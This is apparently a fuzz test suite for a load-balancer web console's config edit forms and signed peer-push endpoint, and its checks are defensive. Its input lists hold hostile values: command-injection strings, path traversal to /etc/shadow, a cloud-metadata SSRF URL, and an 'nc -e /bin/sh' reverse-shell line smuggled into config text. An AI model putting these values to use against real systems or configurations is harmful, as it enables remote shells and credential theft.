/**
 * Fuzz of the console's two ways to change the configuration (issue 17): the web forms (every edit route,
 * with random fragments) and the peer push (random headers, bodies, signatures and garbled files, signed
 * or not, from the peer or not). Over the route handlers (fastify inject). For every case:
 * - never a 5xx, never a stack trace or a file system path of the code in the answer;
 * - a refusal changes nothing: same file, no reload;
 * - an accepted change leaves a file that loads, with no program-naming or security-sensitive key changed
 *   (the forms never may; the push may not without --accept-program-changes);
 * - nothing is written in the config directory but the file and its `.prev`.
 * LPW_FUZZ_RUNS=2000 for a soak.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { loadConfig } from '../../../src/config';
import { changedKeys } from '../../../src/config/sensitive';
import { keygen } from '../../../src/heartbeat/keys';
import { versionOf } from '../../../src/web/configfile';
import { FORMS } from '../../../src/web/fields';
import { PUSH_CONTENT_TYPE, PUSH_PATH, signPush } from '../../../src/web/peer';
import { readPushKeys } from '../../../src/web/peer-push';
import { buildWeb, type Web } from '../../../src/web/server';
import { type Client, type Env, login, makeEnv, TEST_SCRYPT, TLS } from './fixture';

const RUNS = Number(process.env.LPW_FUZZ_RUNS ?? 120);

/** Values a form field may be posted with: text of every kind, numbers, booleans, null, lists, objects. */
const value = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(
    '',
    ' ',
    '0',
    '-1',
    '65536',
    '1e9',
    '99999999999999999',
    'true',
    'none',
    'eth0:1',
    '198.18.0.99',
    '2001:2::99',
    '224.0.0.1',
    '/bin/sh -c id',
    'x";drop;#',
    'a\nactive_cmd = /bin/sh',
    '\\n',
    'http://169.254.169.254/',
    '../../etc/shadow',
    '%h %p',
    '{',
    '- ',
  ),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 8 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 2 }),
);
const fieldIds = [...new Set(Object.values(FORMS).flatMap((f) => f.ids as readonly string[]))];
const fragment = fc.dictionary(
  fc.oneof(
    fc.constantFrom(...fieldIds),
    fc.string({ maxLength: 12 }),
    fc.constantFrom('__proto__', 'constructor'),
  ),
  value,
  { maxKeys: 6 },
);
/** A fragment that often passes: one or two known fields with a value of a plausible kind. */
const plausible = fc.dictionary(
  fc.constantFrom(...fieldIds),
  fc.constantFrom(
    '3',
    '0',
    '1',
    'true',
    'false',
    '24',
    '198.18.0.50',
    '198.18.1.99',
    'debug',
    'wrr',
    'eth0',
    'web2',
    '',
  ),
  { minKeys: 1, maxKeys: 2 },
);
const name = fc.oneof(
  fc.constantFrom('http', 'rs1', 'rs2', 'nope', '', '%2e%2e', '..'),
  fc.string({ maxLength: 10 }),
);

/** One edit request: method, URL and body (a JSON fragment, or something that is not). */
const edit = fc.record({
  route: fc.constantFrom(
    'PUT /api/config/global',
    'PUT /api/config/redundancy',
    'POST /api/config/virtual',
    'PUT /api/config/virtual/:vs',
    'DELETE /api/config/virtual/:vs',
    'POST /api/config/virtual/:vs/real',
    'PUT /api/config/virtual/:vs/real/:rs',
    'DELETE /api/config/virtual/:vs/real/:rs',
  ),
  vs: fc.oneof({ arbitrary: fc.constant('http'), weight: 4 }, { arbitrary: name, weight: 1 }),
  rs: fc.oneof({ arbitrary: fc.constantFrom('rs1', 'rs2'), weight: 4 }, { arbitrary: name, weight: 1 }),
  fields: fc.oneof({ arbitrary: plausible, weight: 3 }, { arbitrary: fragment, weight: 2 }),
  staleVersion: fc.constantFrom(false, false, false, false, true),
  // Now and then a body that is not a fragment at all.
  raw: fc.oneof(
    { arbitrary: fc.constant(undefined), weight: 7 },
    {
      arbitrary: fc.oneof(fc.string({ maxLength: 50 }), fc.constantFrom('{', '[]', 'null', '{"fields":[]}')),
      weight: 1,
    },
  ),
});

/** Answers must not leak code internals. */
function assertClean(body: string): void {
  assert.doesNotMatch(body, /\n\s+at [\w.<>]+ \(|node:internal|\/src\/web\//, body.slice(0, 300));
}

function assertOnlyConfigFiles(dir: string): void {
  const extra = readdirSync(dir).filter(
    (f) => !['lvs.yaml', 'lvs.yaml.prev', 'web.passwd', 'run', 'keys'].includes(f),
  );
  assert.deepEqual(extra, [], 'nothing written beside the config file');
}

describe('web console: fuzz of the forms and the peer push', function () {
  this.timeout(600_000);
  let env: Env;
  let c: Client;
  let original: string;
  before(async () => {
    env = await makeEnv({ passConfigPath: true });
    c = await login(env.web);
    original = readFileSync(env.configPath, 'utf8');
  });
  after(async () => {
    await env.cleanup();
  });

  it(`the forms: random fragments on every edit route never crash, leak or change a protected key (${RUNS} cases)`, async () => {
    const base = loadConfig(env.configPath).model;
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(edit, async (e) => {
        writeFileSync(env.configPath, original);
        env.daemon.commands.length = 0;
        const [method, path] = e.route.split(' ') as [string, string];
        const url = path
          .replace(':vs', encodeURIComponent(e.vs) || 'x')
          .replace(':rs', encodeURIComponent(e.rs) || 'x');
        const version = e.staleVersion ? 'stale' : versionOf(original);
        const res = await env.web.app.inject({
          method: method as 'PUT',
          url,
          headers: {
            cookie: Object.entries(c.jar)
              .map(([k, v]) => `${k}=${v}`)
              .join('; '),
            'x-csrf-token': c.csrf,
            'content-type': 'application/json',
          },
          payload: e.raw ?? JSON.stringify({ version, fields: e.fields }),
        });
        assert.ok(
          [200, 400, 404, 409, 415, 422].includes(res.statusCode),
          `${method} ${url} ${res.statusCode}: ${res.body.slice(0, 300)}`,
        );
        assertClean(res.body);
        assertOnlyConfigFiles(env.dir);
        const now = readFileSync(env.configPath, 'utf8');
        if (res.statusCode !== 200) {
          assert.equal(now, original, 'a refused edit changes nothing');
          assert.deepEqual(env.daemon.commands, [], 'and reloads nothing');
          return;
        }
        accepted++;
        const after = loadConfig(env.configPath).model;
        const prot = changedKeys(base, after).filter((x) => x.protection);
        assert.deepEqual(prot, [], 'no protected key changed from the web');
        assert.deepEqual(env.daemon.commands, [{ cmd: 'reload' }]);
      }),
      { numRuns: RUNS, seed: 0x17eb, endOnFailure: true },
    );
    writeFileSync(env.configPath, original);
    console.log(`      ${accepted} of ${RUNS} random edits were valid and saved`);
  });

  describe('the peer push', () => {
    let recv: Web;
    let key: Buffer;
    before(async () => {
      const keyFile = join(env.dir, 'keys');
      keygen(keyFile);
      key = readPushKeys([keyFile])[0]!;
      recv = await buildWeb({
        runDir: env.runDir,
        passwordFile: env.passwordFile,
        configPath: env.configPath,
        log: env.log,
        now: () => env.clock.t,
        scrypt: TEST_SCRYPT,
        tls: TLS,
        acceptPeerPush: true,
        pushKeyFiles: [keyFile],
        peerAddresses: ['198.18.0.12'],
      });
    });
    after(async () => {
      await recv.close();
    });

    const lines = fc.array(
      fc.oneof(
        fc.record({ op: fc.constant('drop' as const), at: fc.nat() }),
        fc.record({ op: fc.constant('dup' as const), at: fc.nat() }),
        fc.record({
          op: fc.constant('insert' as const),
          at: fc.nat(),
          text: fc.oneof(
            fc.string({ maxLength: 12 }),
            fc.constantFrom(
              'hooks:\n  active_cmd: /bin/sh -c id',
              '  piranha_compat: true',
              '  auth: none',
              'metrics:\n  listen: 0.0.0.0:9539',
              '      send_program: /bin/nc -e /bin/sh 198.18.9.9 1',
              '      load_monitor: http://169.254.169.254/',
              'lb:\n  ipvsadm: /tmp/x',
              '      weight: 9',
              '  rt_priority: 99',
            ),
          ),
        }),
      ),
      { maxLength: 3 },
    );
    const push = fc.record({
      from: fc.constantFrom(
        '198.18.0.12',
        '198.18.0.12',
        '198.18.0.12',
        '::ffff:198.18.0.12',
        '198.18.0.13',
        '2001:2::12',
      ),
      sign: fc.constantFrom('good', 'good', 'good', 'good', 'bad', 'none', 'garbage'),
      skew: fc.constantFrom(0, 0, 0, 0, 0, 31_000, -31_000),
      format: fc.constantFrom('yaml', 'yaml', 'yaml', 'yaml', 'lvs.cf', 'json', 'xml', 42),
      serial: fc.oneof(
        { arbitrary: fc.constant('next' as const), weight: 5 },
        { arbitrary: fc.integer({ min: -2, max: 3 }), weight: 1 },
        { arbitrary: fc.constant(1e300), weight: 1 },
      ),
      garble: fc.oneof({ arbitrary: fc.constant([]), weight: 2 }, { arbitrary: lines, weight: 3 }),
      raw: fc.oneof(
        { arbitrary: fc.constant(undefined), weight: 9 },
        { arbitrary: fc.string({ maxLength: 60 }), weight: 1 },
      ),
    });

    it(`random pushes never crash, leak, apply unsigned or foreign pushes, or change a protected key (${RUNS} cases)`, async () => {
      let accepted = 0;
      await fc.assert(
        fc.asyncProperty(push, async (p) => {
          writeFileSync(env.configPath, original);
          env.daemon.commands.length = 0;
          const base = loadConfig(env.configPath).model;
          const text = garble(original.replace(/^serial_no: \d+/m, 'serial_no: 2'), p.garble);
          const serial = p.serial === 'next' ? 2 : p.serial;
          const body = p.raw ?? JSON.stringify({ format: p.format, serial, text });
          const time = String(env.clock.t + p.skew);
          const nonce = randomBytes(18).toString('base64url');
          const sig =
            p.sign === 'good'
              ? signPush(key, time, nonce, body)
              : p.sign === 'bad'
                ? signPush(Buffer.alloc(32, 1), time, nonce, body)
                : p.sign === 'garbage'
                  ? 'zz'
                  : undefined;
          const res = await recv.app.inject({
            method: 'POST',
            url: PUSH_PATH,
            remoteAddress: p.from,
            headers: {
              'content-type': PUSH_CONTENT_TYPE,
              'x-pulse-time': time,
              'x-pulse-nonce': nonce,
              ...(sig ? { 'x-pulse-signature': sig } : {}),
            },
            payload: body,
          });
          assert.ok(
            [200, 400, 401, 403, 409, 422].includes(res.statusCode),
            `${res.statusCode}: ${res.body.slice(0, 300)}`,
          );
          assertClean(res.body);
          assertOnlyConfigFiles(env.dir);
          const now = readFileSync(env.configPath, 'utf8');
          const trusted = p.sign === 'good' && p.skew === 0 && /^(::ffff:)?198\.18\.0\.12$/.test(p.from);
          if (res.statusCode !== 200) {
            assert.equal(now, original, 'a refused push changes nothing');
            assert.deepEqual(env.daemon.commands, []);
            return;
          }
          accepted++;
          assert.ok(trusted, 'only a good signature from the peer, in time, is applied');
          const after = loadConfig(env.configPath).model;
          assert.ok(after.serialNo > base.serialNo);
          assert.deepEqual(
            changedKeys(base, after).filter((x) => x.protection),
            [],
            'no protected change without --accept-program-changes',
          );
          assert.deepEqual(env.daemon.commands, [{ cmd: 'reload' }]);
        }),
        { numRuns: RUNS, seed: 0x17ec, endOnFailure: true },
      );
      writeFileSync(env.configPath, original);
      console.log(`      ${accepted} of ${RUNS} random pushes were applied`);
      assert.ok(accepted > 0, 'the fuzzer reaches the validator (some pushes are valid)');
    });
  });
});

/** Line-level garbling of a file text (drop, duplicate or insert a line). */
function garble(text: string, steps: readonly { op: string; at: number; text?: string }[]): string {
  const ls = text.split('\n');
  for (const s of steps) {
    const i = s.at % (ls.length || 1);
    if (s.op === 'drop') ls.splice(i, 1);
    else if (s.op === 'dup') ls.splice(i, 0, ls[i] ?? '');
    else ls.splice(i, 0, s.text ?? '');
  }
  return ls.join('\n');
}
